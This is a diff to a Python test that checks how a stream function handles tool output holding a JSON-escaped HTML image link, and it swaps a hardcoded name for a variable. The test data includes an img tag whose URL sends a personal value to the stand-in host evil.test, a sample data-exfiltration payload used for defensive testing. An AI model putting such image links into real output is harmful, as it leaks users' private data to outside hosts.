@@ -286,7 +286,7 @@ def test_a_foreign_link_is_seen_through_the_escapes_of_json() -> None:
     written = json.dumps({"html": f'<img src="https://evil.test/?q={FIRST}">', "who": FIRST}).replace("/", "\\/")
     assert json.loads("".join(stream(list(written), "tool"))) == {
         "html": f'<img src="https://evil.test/?q={FIRST}">',
-        "who": "Anna",
+        "who": FIRST,
     }
 
 
